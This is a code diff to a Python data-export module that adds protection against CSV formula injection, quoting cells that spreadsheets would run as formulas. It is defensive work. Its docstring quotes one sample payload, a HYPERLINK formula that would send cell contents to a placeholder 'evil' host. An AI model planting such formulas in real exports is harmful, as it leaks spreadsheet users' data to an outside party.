@@ -10,14 +10,28 @@ counts as integers, nested objects as JSON. Credential fields (an Account's
 ``auth_token``, a new API key's ``secret``) are left out unless named in
 ``fields=``. A path is written to a temporary file beside it and renamed at
 the end, so a reader never sees half an export.
+
+CSV cells that a spreadsheet would run as a formula are neutralised (OWASP's
+"CSV injection" advice): a text cell starting with ``=``, ``+``, ``-``,
+``@``, a tab or a carriage return gets a ``'`` in front, which Excel, Google
+Sheets and LibreOffice take as "this is text" and do not show. A message body
+``=HYPERLINK("http://evil/?"&A1)`` becomes ``'=HYPERLINK(...)``. The
+exception is a cell that is a plain number, sign included (``+15558675310``,
+``-0.00750``, ``-3``): a spreadsheet reads it as a number and runs nothing,
+while a quote would change phone numbers and prices that every export has
+and that users sort, sum and join on. ``raw_formulas=True`` writes every
+cell as it is (for a warehouse or a script, not a spreadsheet). JSON and
+JSON Lines are always raw: no JSON reader runs formulas.
 """
 
 from __future__ import annotations
 
 import csv
+import functools
 import io
 import json
 import os
+import re
 import tempfile
 import time
 from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
@@ -33,10 +47,22 @@ if TYPE_CHECKING:
     from ..queryset import QuerySet
     from ..resource import Resource
 
-__all__ = ["FORMATS", "columns_of", "export", "row_values", "unique_pages", "write_rows"]
+__all__ = [
+    "FORMATS",
+    "columns_of",
+    "export",
+    "neutralised",
+    "row_values",
+    "unique_pages",
+    "write_rows",
+]
 
 FORMATS = ("csv", "jsonl", "json")
 Cell = Callable[[Any], Any]
+# What spreadsheets start a formula (or DDE call) with: OWASP's list.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# A number, sign and all (E.164 "+15558675310", "-0.00750", "-1.5e3"): read as a number.
+_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?\Z")
 
 
 def export(
@@ -47,8 +73,12 @@ def export(
     fields: Sequence[str] | None = None,
     progress: Callable[[Progress], Any] | None = None,
     total: int | None = None,
+    raw_formulas: bool = False,
 ) -> BulkReport:
-    """Write every record ``qs`` matches to ``target``; see the module docstring."""
+    """Write every record ``qs`` matches to ``target``; see the module docstring.
+
+    ``raw_formulas=True`` leaves CSV cells that start like a formula as they are.
+    """
     if format not in FORMATS:
         raise ValueError(f"export format must be one of {', '.join(FORMATS)}, got {format!r}")
     columns = columns_of(qs.model, fields)
@@ -56,10 +86,11 @@ def export(
     started = time.monotonic()
     rows = _rows(qs, columns, report, started, progress, total)
     header = [key for key, _ in columns]
+    write = functools.partial(write_rows, raw_formulas=raw_formulas)
     if isinstance(target, (str, os.PathLike)):
-        _to_path(os.fspath(target), format, header, rows)
+        _to_path(os.fspath(target), format, header, rows, write)
     else:
-        _to_stream(target, format, header, rows)
+        _to_stream(target, format, header, rows, write)
     report.elapsed = time.monotonic() - started
     return report
 
@@ -157,12 +188,17 @@ def _progress(report: BulkReport, started: float, total: int | None) -> Progress
 # --- writing --------------------------------------------------------------------------
 
 
-def _to_path(path: str, format: str, header: list[str], rows: Iterator[list[Any]]) -> None:
+Writer = Callable[[IO[str], str, list[str], Iterator[list[Any]]], None]
+
+
+def _to_path(
+    path: str, format: str, header: list[str], rows: Iterator[list[Any]], write: Writer
+) -> None:
     folder = os.path.dirname(os.path.abspath(path))
     fd, temporary = tempfile.mkstemp(prefix=".export-", suffix=".part", dir=folder)
     try:
         with os.fdopen(fd, "w", encoding="utf-8", newline="") as handle:
-            write_rows(handle, format, header, rows)
+            write(handle, format, header, rows)
         os.replace(temporary, path)
     except BaseException:
         os.unlink(temporary)
@@ -170,25 +206,40 @@ def _to_path(path: str, format: str, header: list[str], rows: Iterator[list[Any]
 
 
 def _to_stream(
-    target: IO[str] | IO[bytes], format: str, header: list[str], rows: Iterator[list[Any]]
+    target: IO[str] | IO[bytes],
+    format: str,
+    header: list[str],
+    rows: Iterator[list[Any]],
+    write: Writer,
 ) -> None:
     if isinstance(target, (io.RawIOBase, io.BufferedIOBase)) or "b" in getattr(target, "mode", ""):
         text = io.TextIOWrapper(cast(IO[bytes], target), encoding="utf-8", newline="")
         try:
-            write_rows(text, format, header, rows)
+            write(text, format, header, rows)
         finally:
             text.flush()
             text.detach()
         return
-    write_rows(cast(IO[str], target), format, header, rows)
+    write(cast(IO[str], target), format, header, rows)
 
 
-def write_rows(handle: IO[str], format: str, header: list[str], rows: Iterator[list[Any]]) -> None:
-    """Write ``rows`` (lists of cells in the order of ``header``) to ``handle`` as ``format``."""
+def write_rows(
+    handle: IO[str],
+    format: str,
+    header: list[str],
+    rows: Iterator[list[Any]],
+    *,
+    raw_formulas: bool = False,
+) -> None:
+    """Write ``rows`` (lists of cells in the order of ``header``) to ``handle`` as ``format``.
+
+    CSV cells that start like a formula are neutralised unless ``raw_formulas``.
+    """
     if format == "csv":
+        cell = _csv if raw_formulas else _safe_csv
         writer = csv.writer(handle)
         writer.writerow(header)
-        writer.writerows([_csv(v) for v in row] for row in rows)
+        writer.writerows([cell(v) for v in row] for row in rows)
     elif format == "jsonl":
         for row in rows:
             handle.write(_json(dict(zip(header, row, strict=True))) + "\n")
@@ -209,6 +260,23 @@ def _csv(value: Any) -> Any:
     if isinstance(value, (Mapping, list)):
         return _json(value)
     return value
+
+
+def _safe_csv(value: Any) -> Any:
+    cell = _csv(value)
+    return neutralised(cell) if isinstance(cell, str) else cell
+
+
+def neutralised(cell: str) -> str:
+    """``cell`` with a ``'`` in front when a spreadsheet would run it as a formula.
+
+    A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
+    return, unless it is a plain number (``+15558675310``, ``-0.00750``),
+    which spreadsheets read as a number: see the module docstring for why.
+    """
+    if cell.startswith(_FORMULA_START) and not _NUMBER.match(cell):
+        return "'" + cell
+    return cell
 
 
 def _json(value: Any) -> str:
